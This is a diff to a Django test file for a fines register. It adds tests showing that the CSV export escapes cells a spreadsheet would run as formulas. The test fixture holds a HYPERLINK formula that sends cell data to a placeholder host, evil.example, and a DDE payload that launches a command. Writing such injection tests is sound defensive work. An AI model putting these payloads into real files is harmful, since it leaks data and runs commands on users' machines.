@@ -13,8 +13,11 @@ from django.db import connection
 from django.db.models import Sum
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from fines.interchange import COLUMNS, decision_record
+from fines.importers.interchange import read_interchange_csv
+from fines.interchange import COLUMNS, csv_cell, csv_value, decision_record
 from fines.models import AppealEvent, ArticleCitation, Decision, Organisation, Source
 from fines.services import Change, decision_upsert, register_load
 from fines.vocabularies import Status
@@ -258,15 +261,86 @@ def test_reimporting_the_json_export_changes_nothing(client, register):
     assert b"".join(client.get("/fines/export.json").streaming_content) == exported
 
 
+def _reimported_csv(exported: str) -> list[Change]:
+    """The CSV read back through the interchange reader, as an import or an editor's bulk entry reads it."""
+    result = read_interchange_csv(exported.encode())
+    assert not result.problems
+    return [decision_upsert(record=record)[1] for _, record in result.records]
+
+
 def test_reimporting_the_csv_export_changes_nothing(client, register):
     exported = _body(client.get("/fines/export.csv"))
-    changes = [
-        decision_upsert(record=decision_record(row))[1]
-        for row in csv.DictReader(io.StringIO(exported, newline=""))
-    ]
+    changes = _reimported_csv(exported)
     assert len(changes) == Decision.objects.count()
     assert set(changes) == {Change.UNCHANGED}
     assert _body(client.get("/fines/export.csv")) == exported
+
+
+# CSV injection: a spreadsheet must not run what an organisation's name or a summary says.
+
+FORMULAS = {
+    "organisation": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "group": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "-2+3 was the fine's first draft; =1+1 is not a formula here.",
+    "case_number": "+44 20 7946 0000",
+}
+
+
+@pytest.fixture
+def formulas(make_authority, make_organisation, make_decision):
+    cnil = make_authority("cnil", "CNIL", "FR")
+    group = make_organisation(FORMULAS["group"], slug="at-sum")
+    return {
+        "formulas": make_decision(
+            authority=cnil, organisation=make_organisation(FORMULAS["organisation"], parent=group, slug="hyperlink"),
+            summary=FORMULAS["summary"], case_number=FORMULAS["case_number"],
+        ),
+        "quoted": make_decision(
+            authority=cnil, organisation=make_organisation("'=Already quoted Ltd", slug="already-quoted"),
+            summary="@mention in a summary", case_number="'tis a plain case number",
+        ),
+    }
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, formulas):
+    exported = _body(client.get("/fines/export.csv"))
+    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in csv.reader(io.StringIO(exported, newline=""))}
+    row = rows[formulas["formulas"].reference]
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value
+    quoted = rows[formulas["quoted"].reference]
+    assert (quoted["organisation"], quoted["summary"], quoted["case_number"]) == (
+        "''=Already quoted Ltd", "'@mention in a summary", "'tis a plain case number",
+    )
+    for cells in rows.values():
+        assert not [cell for cell in cells.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_formula_like_text_survives_the_csv_export_and_reimport_exactly(client, formulas):
+    exported = _body(client.get("/fines/export.csv"))
+    records = {record.reference: record for _, record in read_interchange_csv(exported.encode()).records}
+    record = records[formulas["formulas"].reference]
+    assert (record.organisation, record.group, record.summary, record.case_number) == (
+        FORMULAS["organisation"], FORMULAS["group"], FORMULAS["summary"], FORMULAS["case_number"],
+    )
+    assert records[formulas["quoted"].reference].organisation == "'=Already quoted Ltd"
+    assert set(_reimported_csv(exported)) == {Change.UNCHANGED}
+    assert _body(client.get("/fines/export.csv")) == exported
+
+
+def test_the_json_export_keeps_formula_like_text_as_it_is(client, formulas):
+    decision = next(
+        d for d in _json_decisions(client.get("/fines/export.json")) if d["reference"] == formulas["formulas"].reference
+    )
+    assert (decision["organisation"], decision["summary"]) == (FORMULAS["organisation"], FORMULAS["summary"])
+
+
+@settings(max_examples=500, derandomize=True, database=None)
+@given(st.one_of(st.text(), st.text(alphabet="'=+-@\t\r x", max_size=6)))
+def test_every_text_reads_back_from_its_csv_cell_and_no_cell_starts_a_formula(value):
+    cell = csv_cell(value)
+    assert csv_value(cell) == value
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
 def test_the_json_export_rebuilds_the_register_where_only_the_authorities_are_known(client, register):
